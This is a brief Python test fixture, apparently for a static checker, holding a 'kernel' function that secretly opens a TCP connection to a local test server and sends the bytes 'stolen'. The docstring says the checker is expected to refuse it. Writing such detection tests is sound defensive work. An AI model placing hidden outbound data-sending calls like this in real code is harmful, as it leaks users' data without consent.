"""Opens a TCP connection to a server the test runs, in plain sight: the static check refuses it."""
import socket


def kernel_fn(x):
    socket.create_connection(("127.0.0.1", __PORT__), timeout=5).sendall(b"stolen")
    return x
